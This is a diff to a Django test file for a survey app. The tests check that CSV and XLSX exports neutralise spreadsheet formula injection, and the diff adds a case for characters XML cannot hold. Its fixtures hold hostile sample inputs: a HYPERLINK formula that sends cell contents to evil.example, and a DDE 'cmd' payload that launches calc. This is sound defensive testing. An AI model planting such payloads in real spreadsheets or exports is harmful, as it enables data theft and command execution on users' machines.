@@ -17,6 +17,8 @@ pytestmark = pytest.mark.django_db
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")'
 FORMULA_OPTIONS = ["=1+2", "+7 (495) на связи", "-2+3", "@SUM(A1:A2)", "\tтаб", "\rвозврат"]
+# Characters XML can't hold; they are left out of workbooks, which stay readable.
+UNWRITABLE_OPTION = "Нет\ufffeсимвола\uffff\x01"
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -57,6 +59,7 @@ def hostile(network):
         Option.objects.create(question=question, text=text, order=100 + n)
         for n, text in enumerate(FORMULA_OPTIONS)
     ]
+    options.append(Option.objects.create(question=question, text=UNWRITABLE_OPTION, order=200))
     response = Response.objects.create(survey=survey, respondent="=cmd|' /C calc'!A0")
     for option in options:
         response.choices.create(option=option)
@@ -90,7 +93,8 @@ def test_every_download_neutralises_formulas(hostile, staff):
         response = client_for(staff if needs_admin else None).get(url)
         assert response.status_code == 200, name
         if url.endswith(".xlsx"):
-            cells = xlsx_cells(response)
+            cells = xlsx_cells(response)  # a readable workbook, or this fails
+            assert any("Нетсимвола" in str(cell.value) for cell in cells), name
             assert not [cell.coordinate for cell in cells if cell.data_type == "f"], name
             texts = [cell.value for cell in cells if isinstance(cell.value, str)]
             # XML reads a carriage return back as a line feed.
@@ -117,6 +121,8 @@ def test_a_neutralised_export_imports_back_as_it_was(hostile, staff, tmp_path):
     from io import StringIO
 
     from django.core.management import call_command
+
+    Option.objects.filter(text=UNWRITABLE_OPTION).delete()  # a workbook can't carry it
 
     exported = client_for(staff).get(
         reverse("admin:surveys_survey_export_xlsx", args=[hostile.pk])
